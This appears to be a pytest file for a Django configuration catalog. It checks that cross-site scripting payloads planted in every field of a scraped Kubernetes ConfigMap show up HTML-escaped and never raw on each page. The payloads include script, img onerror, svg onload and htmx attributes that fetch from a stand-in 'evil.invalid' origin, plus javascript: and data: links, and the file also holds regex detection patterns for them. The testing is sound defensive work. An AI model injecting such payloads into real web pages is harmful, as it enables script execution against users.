"""Hostile strings in scraped data are shown as text on every catalog page.

Every field of one ConfigMap carries a payload (name, namespace, cluster, label keys and values,
annotations, data), and each page must both render (200), show the payload HTML-escaped where
the field is displayed, and never contain it raw. Payloads that would fetch something point at
an origin no test serves, so the browser journey can also catch them by their requests.
"""

import json
import re
from pathlib import Path
from typing import Any

import pytest
from django.urls import reverse
from django.utils.html import escape

from catalog.models import ConfigItem, ScrapeConfig
from tests.catalog.scrape_helpers import file_scraper, run_now

EVIL_ORIGIN = "//evil.invalid"
SCRIPT = "<script>alert(1)</script>"
IMG = f'"><img src={EVIL_ORIGIN}/img.png onerror=alert(2)>'
SINGLE_QUOTED_HX = f"' hx-get='{EVIL_ORIGIN}/hx' hx-trigger='load"
DOUBLE_QUOTED_HX = f'" hx-post="{EVIL_ORIGIN}/hx" hx-trigger="load" x="'
SVG = "<svg/onload=alert(5)><script>alert(6)</script></svg>"
JS_LINK = "javascript:alert(4)"
DATA_LINK = "data:text/html,<script>alert(7)</script>"
EVERY = [SCRIPT, IMG, SINGLE_QUOTED_HX, DOUBLE_QUOTED_HX, SVG, JS_LINK, DATA_LINK]

NAME = SCRIPT + "-name"
NAMESPACE = IMG + "-ns"
CLUSTER = SVG + "-cluster"
LABELS = {SVG + "-key": SINGLE_QUOTED_HX, "team": DOUBLE_QUOTED_HX}
ANNOTATIONS = {"link": JS_LINK, "docs": DATA_LINK, "description": SCRIPT + IMG}
UID = "abababab-abab-4bab-8bab-abababababab"

# What must never reach the page unescaped: markup, event handlers, htmx attributes, and
# URL-bearing attributes that start with a script or data scheme.
RAW = [
    re.compile(r"<script>alert", re.I),
    re.compile(r"<img[^<>]*evil\.invalid", re.I),
    re.compile(r"<svg/onload", re.I),
    # Inside a tag: the same words escaped into text content are harmless.
    re.compile(r"""<[^<>]*\shx-(?:get|post)\s*=\s*["']?//evil""", re.I),
    re.compile(r"""<[^<>]*\bon(?:error|load)\s*=\s*alert""", re.I),
    # base.html's `href="data:,"` (no favicon request) is the one data: URL a page may carry.
    re.compile(r"""(?:href|src|action|formaction|hx-get|hx-post)\s*=\s*["']?\s*"""
               r"""(?:javascript:|data:(?!,"))""", re.I),
]


def hostile_configmap(version: str = "1") -> dict[str, Any]:
    return {
        "apiVersion": "v1", "kind": "ConfigMap",
        "metadata": {"name": NAME, "namespace": NAMESPACE, "uid": UID, "labels": LABELS,
                     "annotations": ANNOTATIONS},
        "data": {"payload": "\n".join(EVERY), "version": version},
    }


def scrape_hostile_item(folder: Path) -> tuple[ScrapeConfig, ConfigItem]:
    """Scrape the ConfigMap twice, changed in between, so change pages carry it too."""
    folder.mkdir(parents=True, exist_ok=True)
    config = file_scraper(folder, name="hostile", cluster=CLUSTER)
    for version in ("1", "2"):
        (folder / "evil.json").write_text(json.dumps(hostile_configmap(version)))
        run = run_now(config)
        assert run.status == "succeeded", run.error_list
    return config, ConfigItem.objects.get(type="Kubernetes::ConfigMap", name=NAME)


def assert_never_raw(html: str, where: str) -> None:
    found = [pattern.pattern for pattern in RAW if pattern.search(html)]
    assert found == [], f"{where}: unescaped payload {found}"


def assert_escaped(html: str, where: str, *values: str) -> None:
    missing = [value for value in values if escape(value) not in html]
    assert missing == [], f"{where}: escaped payload not shown {missing}"


@pytest.mark.django_db
def test_catalog_pages_escape_hostile_strings(client, root, tmp_path):
    _config, item = scrape_hostile_item(tmp_path / "src")
    detail = reverse("catalog:item_detail", args=[item.pk])
    # Page, and the values that page displays (so the test cannot pass on an empty page).
    pages = {
        reverse("catalog:item_list"): [NAME, NAMESPACE],
        reverse("catalog:item_list") + "?q=" + "team=x": [],
        detail: [NAME, NAMESPACE, SVG + "-key", SINGLE_QUOTED_HX, DOUBLE_QUOTED_HX],
        detail + "?tab=config": [NAME, SCRIPT, IMG, SVG, JS_LINK, DATA_LINK, DOUBLE_QUOTED_HX],
        detail + "?tab=changes": [NAME],
        reverse("catalog:change_list"): [NAME],
        reverse("catalog:health"): [NAMESPACE, CLUSTER],
        reverse("catalog:graph") + f"?root={item.pk}&depth=1": [NAME],
    }
    client.force_login(root)

    for url, shown in pages.items():
        response = client.get(url)
        assert response.status_code == 200, url
        html = response.content.decode()
        assert_never_raw(html, url)
        assert_escaped(html, url, *shown)


def test_the_raw_patterns_catch_each_payload():
    """The negative check above is only as good as its patterns: each payload must trip one."""
    for payload in EVERY:
        if payload in (JS_LINK, DATA_LINK):
            payload = f'<a href="{payload}">x</a>'
        elif payload in (SINGLE_QUOTED_HX, DOUBLE_QUOTED_HX):
            payload = f"<span x={payload}>"
        assert any(pattern.search(payload) for pattern in RAW), payload
        assert not any(pattern.search(escape(payload)) for pattern in RAW), payload


def test_templates_never_mark_model_data_safe():
    root = Path(__file__).resolve().parents[2]
    offenders = [str(p) for p in (root / "templates").rglob("*.html")
                 if "|safe" in p.read_text() or "autoescape off" in p.read_text()]
    offenders += [str(p) for d in ("catalog", "accounts", "portal", "connections")
                  for p in (root / d).rglob("*.py")
                  if "mark_safe(" in p.read_text() and p.name != "templating.py"]

    assert offenders == []
